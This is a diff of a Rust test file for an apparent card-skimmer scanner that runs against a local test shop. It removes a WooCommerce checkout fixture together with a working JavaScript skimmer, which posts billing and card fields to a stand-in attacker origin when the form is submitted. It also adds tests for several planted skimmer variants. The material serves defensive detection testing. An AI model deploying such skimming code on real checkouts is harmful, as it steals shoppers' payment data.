@@ -8,10 +8,9 @@
 
 use crate::util::{describe, findings_of, Workspace};
 use skimwatch::model::{FindingKind, Interaction, ScanReport, Severity};
-use skimwatch_testshop::{Origin, Resource, Shop};
+use skimwatch_testshop::{Checkout, Origin, Resource, Shop, Wake};
 
 const M1: &str = "/wake/m1/checkout";
-const WOO: &str = "/wake/woo/checkout";
 
 /// A Magento-1-style one-page checkout: billing → shipping method → payment (`ccsave` with
 /// card type and expiry `select`s) → review (terms, `review.save()`). Each step posts to its
@@ -105,103 +104,19 @@ document.addEventListener("click", function (e) {
 }, true);
 "#;
 
-/// A WooCommerce-style checkout: `billing_*` fields (changes post `?wc-ajax=update_order_review`),
-/// cash on delivery or a card gateway whose `*-card-number`/`*-card-expiry`/`*-card-cvc`
-/// fields show once it is chosen, the terms box and `#place_order`, whose form submit is
-/// turned into a POST to `?wc-ajax=checkout` (the order).
-fn woo(shop: &Shop, skimmer: &str) -> String {
-    let attacker = shop.base(Origin::Attacker);
-    format!(
-        r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title>
-<style>.payment_box {{ display: none; }}</style></head><body>
-<a href="/my-account/customer-logout/">Log out</a>
-<form name="checkout" method="post" class="checkout woocommerce-checkout" action="/wake/woo/checkout/">
-  <p><label for="billing_first_name">First name</label><input id="billing_first_name" name="billing_first_name"></p>
-  <p><label for="billing_last_name">Last name</label><input id="billing_last_name" name="billing_last_name"></p>
-  <p><label for="billing_country">Country / Region</label><select id="billing_country" name="billing_country"><option value="">Select a country / region…</option><option value="AT">Austria</option><option value="IE">Ireland</option></select></p>
-  <p><label for="billing_address_1">Street address</label><input id="billing_address_1" name="billing_address_1" placeholder="House number and street name"></p>
-  <p><label for="billing_city">Town / City</label><input id="billing_city" name="billing_city"></p>
-  <p><label for="billing_state">County</label><input id="billing_state" name="billing_state"></p>
-  <p><label for="billing_postcode">Eircode</label><input id="billing_postcode" name="billing_postcode"></p>
-  <p><label for="billing_phone">Phone</label><input id="billing_phone" name="billing_phone" type="tel"></p>
-  <p><label for="billing_email">Email address</label><input id="billing_email" name="billing_email" type="email"></p>
-  <ul class="wc_payment_methods">
-    <li><input id="payment_method_cod" type="radio" name="payment_method" value="cod"><label for="payment_method_cod">Cash on delivery</label></li>
-    <li><input id="payment_method_simplify" type="radio" name="payment_method" value="simplify_commerce"><label for="payment_method_simplify">Credit card</label>
-      <div class="payment_box payment_method_simplify">
-        <input id="simplify_commerce-card-number" name="simplify_commerce-card-number" placeholder="•••• •••• •••• ••••" autocomplete="cc-number">
-        <input id="simplify_commerce-card-expiry" name="simplify_commerce-card-expiry" placeholder="MM / YY" autocomplete="cc-exp">
-        <input id="simplify_commerce-card-cvc" name="simplify_commerce-card-cvc" placeholder="CVC" autocomplete="off" maxlength="4">
-      </div></li>
-  </ul>
-  <p><input type="checkbox" name="terms" id="terms"><label for="terms">I have read and agree to the website terms and conditions</label></p>
-  <button type="submit" class="button alt" name="woocommerce_checkout_place_order" id="place_order" value="Place order">Place order</button>
-</form>
-<script>
-var ATTACKER = "{attacker}";
-function $(id) {{ return document.getElementById(id); }}
-function v(id) {{ var e = $(id); return e ? e.value : ""; }}
-document.querySelectorAll("input[name=payment_method]").forEach(function (r) {{ r.addEventListener("change", function () {{
-  document.querySelectorAll(".payment_box").forEach(function (b) {{ b.style.display = "none"; }});
-  var box = document.querySelector(".payment_box.payment_method_simplify"); if (r.checked && r.value == "simplify_commerce") box.style.display = "block";
-}}); }});
-document.querySelectorAll("[name^=billing_]").forEach(function (i) {{ i.addEventListener("change", function () {{
-  fetch("/wake/woo/?wc-ajax=update_order_review", {{ method: "POST", body: new FormData(document.forms.checkout) }});
-}}); }});
-document.forms.checkout.addEventListener("submit", function (e) {{
-  e.preventDefault();
-  fetch("/wake/woo/?wc-ajax=checkout", {{ method: "POST", body: new FormData(document.forms.checkout) }});
-}});
-{skimmer}
-</script></body></html>"#
-    )
-}
-
-/// Sends when the form is submitted and every billing field is filled.
-const WOO_SUBMIT_SKIMMER: &str = r#"
-document.forms.checkout.addEventListener("submit", function () {
-  var f = new FormData(document.forms.checkout), d = {}, complete = true;
-  f.forEach(function (value, key) { d[key] = value; if (/^billing_/.test(key) && !value) complete = false; });
-  if (!complete || !d["simplify_commerce-card-number"] || !$("terms").checked) return;
-  fetch(ATTACKER + "/woo", { method: "POST", mode: "no-cors", body: JSON.stringify(d) });
-}, true);
-"#;
-
-/// Serves the Magento 1 (`m1`) or WooCommerce checkout with `skimmer` and the answers of its
-/// step and order URLs.
-fn serve(shop: &Shop, m1: bool, skimmer: &str) -> String {
-    for path in [
-        "/checkout/onepage/saveBilling/",
-        "/checkout/onepage/saveShippingMethod/",
-        "/checkout/onepage/savePayment/",
-        "/checkout/onepage/saveOrder/",
-        "/wake/woo/",
-    ] {
-        shop.set_resource(Origin::Shop, path, Resource::json("{}"));
-    }
-    let (path, body) = if m1 { (M1, magento1(shop, skimmer)) } else { (WOO, woo(shop, skimmer)) };
-    shop.set_resource(Origin::Shop, path, Resource::html(body));
-    shop.url(Origin::Shop, path)
-}
-
-/// A workspace with the checkout, scanned with the default interaction.
-fn workspace(m1: bool, skimmer: &str) -> Workspace {
-    let shop = Shop::start_in_background().expect("start the test shop");
-    let url = serve(&shop, m1, skimmer);
+/// A workspace scanning `path` of the shop with the default interaction.
+fn workspace(shop: Shop, path: &str) -> Workspace {
+    let url = shop.url(Origin::Shop, path);
     Workspace::with_page_config(shop, "checkout", &url, "settle = \"1s\"")
 }
 
 /// Requests that would have placed an order, or that a destructive or leaving click made.
 fn forbidden_requests(shop: &Shop) -> Vec<String> {
+    let orders = Checkout::ALL.iter().flat_map(|c| shop.order_requests(*c));
     shop.requests_to(Origin::Shop)
         .into_iter()
-        .filter(|r| {
-            r.path.contains("saveOrder")
-                || r.path.contains("wc-ajax=checkout")
-                || r.path.contains("logout")
-                || r.path.contains("was-clicked")
-                || (r.method == "POST" && r.path_only().starts_with("/wake/woo/checkout"))
-        })
+        .filter(|r| r.path.contains("saveOrder") || r.path.contains("logout") || r.path.contains("was-clicked"))
+        .chain(orders)
         .map(|r| format!("{} {}", r.method, r.path))
         .collect()
 }
@@ -222,8 +137,14 @@ fn assert_exfiltration_to_attacker(ws: &Workspace, report: &ScanReport) {
 }
 
 #[test]
-fn magento1_checkout_is_completed_step_by_step_and_the_place_order_skimmer_wakes() {
-    let ws = workspace(true, M1_PAY_BUTTON_SKIMMER);
+fn own_magento1_page_is_completed_step_by_step_never_pressing_back_cancel_or_log_out() {
+    let shop = Shop::start_in_background().expect("start the test shop");
+    for path in ["saveBilling", "saveShippingMethod", "savePayment", "saveOrder"] {
+        shop.set_resource(Origin::Shop, &format!("/checkout/onepage/{path}/"), Resource::json("{}"));
+    }
+    let body = magento1(&shop, M1_PAY_BUTTON_SKIMMER);
+    shop.set_resource(Origin::Shop, M1, Resource::html(body));
+    let ws = workspace(shop, M1);
     let (code, report) = ws.scan(&[]);
     assert_eq!(code, 1, "{}", describe(&report));
     assert_exfiltration_to_attacker(&ws, &report);
@@ -261,39 +182,83 @@ fn magento1_checkout_is_completed_step_by_step_and_the_place_order_skimmer_wakes
     assert!(stolen.iter().any(|r| r.path.starts_with("/m1.gif?d=")), "{stolen:?}");
 }
 
-#[test]
-fn woocommerce_checkout_is_completed_and_the_submit_skimmer_wakes() {
-    let ws = workspace(false, WOO_SUBMIT_SKIMMER);
+/// Plants `wake` into its checkout, scans once with the default interaction: the card goes
+/// to the attacker, no order reaches the shop, and the report says what the shopper did.
+fn wakes(wake: Wake) {
+    let shop = Shop::start_in_background().expect("start the test shop");
+    shop.plant_wake_skimmer(wake);
+    let ws = workspace(shop, wake.checkout().path());
     let (code, report) = ws.scan(&[]);
-    assert_eq!(code, 1, "{}", describe(&report));
+    assert_eq!(code, 1, "{}: {}", wake.name(), describe(&report));
     assert_exfiltration_to_attacker(&ws, &report);
-    let i = interaction(&report);
-    assert!(i.buttons_pressed.iter().any(|b| b.starts_with("#place_order")), "{i:#?}");
-    for field in [
-        "main|#billing_country",
-        "main|#billing_state",
-        "main|#payment_method_simplify",
-        "main|#terms",
-        "main|#simplify_commerce-card-expiry",
-    ] {
-        assert!(i.fields_filled.iter().any(|f| f == field), "{field} not filled: {i:#?}");
-    }
-    assert!(i.blocked.iter().any(|b| b.contains("wc-ajax=checkout")), "{i:#?}");
     assert!(
-        ws.shop.requests_to(Origin::Shop).iter().any(|r| r.path.contains("wc-ajax=update_order_review")),
-        "the step request is let through"
+        ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.path_only() == wake.exfil_path()),
+        "{}: nothing reached {}",
+        wake.name(),
+        wake.exfil_path()
     );
-    assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new());
+    assert_eq!(ws.shop.order_requests(wake.checkout()), Vec::new(), "{}: an order reached the shop", wake.name());
+    assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new(), "{}", wake.name());
+    let i = interaction(&report);
+    assert!(!i.fields_filled.is_empty() && !i.buttons_pressed.is_empty(), "{}: {i:#?}", wake.name());
+    assert!(i.submitted, "{}: the pay button was pressed: {i:#?}", wake.name());
 }
 
 #[test]
-fn clean_checkouts_completed_again_give_no_finding_and_place_no_order() {
-    for m1 in [true, false] {
-        let ws = workspace(m1, "");
+fn pay_button_skimmer_wakes() {
+    wakes(Wake::PayButton);
+}
+
+#[test]
+fn step_button_skimmer_wakes() {
+    wakes(Wake::StepButton);
+}
+
+#[test]
+fn form_submit_skimmer_wakes() {
+    wakes(Wake::FormSubmit);
+}
+
+#[test]
+fn cvv_blur_skimmer_wakes() {
+    wakes(Wake::CvvBlur);
+}
+
+#[test]
+fn billing_complete_skimmer_wakes() {
+    wakes(Wake::BillingComplete);
+}
+
+#[test]
+fn luhn_and_type_skimmer_wakes() {
+    wakes(Wake::LuhnAndType);
+}
+
+#[test]
+fn delegated_click_skimmer_wakes() {
+    wakes(Wake::DelegatedClick);
+}
+
+#[test]
+fn keystroke_timer_skimmer_wakes() {
+    wakes(Wake::KeystrokeTimer);
+}
+
+#[test]
+fn clean_checkouts_are_completed_quietly_and_place_no_order() {
+    for checkout in Checkout::ALL {
+        let shop = Shop::start_in_background().expect("start the test shop");
+        let ws = workspace(shop, checkout.path());
         ws.approved_baseline();
         let (code, report) = ws.scan(&[]);
-        assert_eq!(code, 0, "m1 = {m1}: {}", describe(&report));
-        assert!(interaction(&report).submitted, "m1 = {m1}: {:#?}", interaction(&report));
-        assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new(), "m1 = {m1}");
+        assert_eq!(code, 0, "{checkout:?}: {}", describe(&report));
+        let i = interaction(&report);
+        assert!(i.submitted, "{checkout:?}: {i:#?}");
+        let steps = if checkout == Checkout::Magento1 { 4 } else { 1 };
+        assert_eq!(i.buttons_pressed.len(), steps, "{checkout:?}: {i:#?}");
+        assert!(i.fields_filled.len() >= 12, "{checkout:?}: {i:#?}");
+        assert!(i.problems.is_empty(), "{checkout:?}: {i:#?}");
+        assert_eq!(ws.shop.order_requests(checkout), Vec::new(), "{checkout:?}");
+        assert_eq!(forbidden_requests(&ws.shop), Vec::<String>::new(), "{checkout:?}");
     }
 }
